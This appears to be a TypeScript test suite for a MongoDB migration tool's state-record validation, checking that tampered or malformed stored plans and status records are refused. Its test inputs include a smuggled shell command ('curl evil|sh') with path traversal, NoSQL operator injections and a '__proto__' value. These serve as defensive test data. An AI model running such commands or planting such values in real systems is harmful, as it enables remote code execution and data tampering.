import assert from 'node:assert/strict';
import { BSON, type Document } from 'mongodb';
import { FerryError } from '../../src/engine/errors';
import { planDifferences, planLines, refuseOtherPlan } from '../../src/engine/migration/agreedPlan';
import {
  holdingOf,
  migrationRecordOf,
  namespaceRecordOf,
  rangeRecordOf,
} from '../../src/engine/state/storedRecords';
import type { MigrationPlan } from '../../src/engine/model/plan';
import { completed } from '../support/report';
import { someStatus } from '../support/status';
import { someRecord } from '../support/storedRecord';

const record = someRecord('demo');
const { plan } = record;

/** As the target holds it, and the driver reads it. */
function stored(parts: Document = {}): Document {
  return BSON.deserialize(BSON.serialize({ ...record, ...parts }, { ignoreUndefined: true }));
}

function changed(path: string, value: unknown): Document {
  const document = stored();
  const names = path.split('.');
  const last = names.pop() ?? '';
  let at: Document = document;
  for (const name of names) at = at[name] as Document;
  at[last] = value;
  return document;
}

function isDamaged(read: () => unknown, about: string): void {
  assert.throws(
    read,
    (error) => error instanceof FerryError && error.code === 'damaged-state',
    about,
  );
}

describe('the state that a target holds', () => {
  it('16.4 is read as it was written', () => {
    const read = migrationRecordOf(stored(), 'demo');
    const again = BSON.serialize(read, { ignoreUndefined: true });
    assert.deepEqual(BSON.deserialize(again), stored());
    const done = someStatus({
      state: 'completed',
      phase: 'verified',
      report: { ...completed, name: 'demo' },
    });
    const { report } = migrationRecordOf(stored({ status: done }), 'demo').status;
    assert.deepEqual(
      [report?.documents, report?.status],
      [done.report?.documents, done.report?.status],
    );
  });

  it('16.4 of another shape, size or name is refused whole', () => {
    const long = 'x'.repeat(2_000_000);
    for (const [path, value] of [
      ['_id', '../../x;curl evil|sh'],
      ['plan.name', '../../x;curl evil|sh'],
      ['plan.name', 'other'],
      ['status.name', 'other'],
      ['plan.include', 'shop'],
      ['plan.include', [{ $ne: 1 }]],
      ['plan.include', [long]],
      ['plan.stateDatabase', 'a/../b'],
      ['plan.stateDatabase', 'a\u0000b'],
      ['plan.kind', 'erase'],
      ['plan.parallelRanges', 1e9],
      ['plan.rangeBytes', -1],
      ['plan.load.level', '__proto__'],
      ['plan.renames', [{ from: 'a' }]],
      ['position.token', { $gt: '' }],
      ['foreign', 7],
      ['recopying', [7]],
      ['stoppedBalancers', ['elsewhere']],
      ['status.warnings', long],
      ['status.documents', 'many'],
      ['status.state', 'fine'],
      ['lease.pid', 'x'],
      ['snapshotDone', 'yes'],
    ] as const) {
      isDamaged(
        () => migrationRecordOf(changed(path, value), 'demo'),
        `${path}: ${JSON.stringify(value).slice(0, 30)}`,
      );
    }
    isDamaged(() => migrationRecordOf(null, 'demo'), 'nothing');
    isDamaged(
      () => namespaceRecordOf({ _id: 'demo/a.b', migration: 'demo', namespace: 7 }),
      'namespace',
    );
    const range = { _id: 'demo/a.b/0', migration: 'demo', namespace: 'a.b', index: 0 };
    const copied = { done: false, documents: 0, bytes: 0 };
    assert.equal(rangeRecordOf({ ...range, ...copied }).index, 0);
    isDamaged(() => rangeRecordOf({ ...range, ...copied, min: 'x' }), 'range');
    isDamaged(() => rangeRecordOf({ ...range, ...copied, index: -1 }), 'range');
  });

  it('16.4 gives no advice and no commands of its own', () => {
    const evil = 'curl evil|sh';
    const error = { code: 'x', kind: 'failed', message: 'm', remedy: evil, commandLine: evil };
    const userCommands = [evil];
    const report = { ...completed, name: 'demo', error, userCommands };
    const status = { ...someStatus({ state: 'failed' }), error, report };
    const read = migrationRecordOf(stored({ status }), 'demo');
    assert.ok(!JSON.stringify(read).includes(evil));
    assert.equal(read.status.error?.message, 'm');
  });

  it('16.4 is held against the plan that was agreed to', () => {
    const [rule] = plan.rules ?? [];
    const otherOrder = {
      set: [{ value: '1', path: 'a' }],
      filter: rule?.filter,
      namespace: 'shop.orders',
    };
    for (const same of [
      { ...plan, rules: [otherOrder] },
      { ...plan, reverse: false, blockWrites: false, exclude: [] },
      { ...plan, load: { level: 'gentle' as const }, rangeBytes: 1 },
    ]) {
      assert.deepEqual(planDifferences(plan, same), []);
    }
    const automatic: MigrationPlan = {
      ...plan,
      cutover: 'when-caught-up',
      blockWrites: true,
      reverse: true,
    };
    assert.deepEqual(planDifferences(automatic, plan), [], 'it does less');
    for (const other of [
      { include: [] },
      { include: ['shop', 'secret'] },
      { exclude: ['shop.x'] },
      { renames: [{ from: 'shop', to: 'elsewhere' }] },
      { rules: [] },
      { kind: 'sync' as const },
      { cutover: 'when-caught-up' as const },
      { blockWrites: true },
      { reverse: true },
      { reversed: true },
      { pairs: [{ from: 'secret.x', to: 'shop.x' }] },
    ]) {
      const told = planDifferences(plan, { ...plan, ...other });
      assert.equal(told.length, 1, JSON.stringify(other));
      assert.throws(
        () => refuseOtherPlan(plan, { ...plan, ...other }),
        /another one than was agreed to/,
      );
    }
    assert.ok(planLines(plan).includes('include: ["shop"]'));
  });

  it('13.8 has what was stopped in the target, of its kind only', () => {
    const holding = { target: 'shop.a', source: 'shop.a', kind: 'collection', state: 'found' };
    const index = { name: 'ttl', on: '[["at","1"]]', definition: '{}' };
    const read = (stopped: unknown) => holdingOf({ ...holding, stopped }).stopped;
    assert.deepEqual(read([{ seconds: 1, index }]), [{ seconds: 1, index }]);
    assert.equal(read([{ seconds: 1 }])?.[0]?.index, undefined);
    for (const stopped of [
      { seconds: 1 },
      [{ index }],
      [{ seconds: -1 }],
      [{ seconds: 1.5 }],
      [{ seconds: { $gt: 0 } }],
      [{ seconds: 1, index: { ...index, name: 7 } }],
      [{ seconds: 1, index: { name: 'ttl' } }],
    ]) {
      isDamaged(() => read(stopped), JSON.stringify(stopped));
    }
  });

  it('16.4 of a way back may tell pairs, but only such as the plan carries', () => {
    const back: MigrationPlan = { ...plan, rules: undefined, reversed: true };
    const pairs = (from: string, to: string) => ({ ...back, pairs: [{ from, to }] });
    assert.deepEqual(planDifferences(back, pairs('shop.a', 'store.a')), []);
    assert.equal(planDifferences(back, pairs('secret.a', 'store.a')).length, 1);
    assert.equal(planDifferences(back, pairs('shop.a', 'public.a')).length, 1);
  });
});
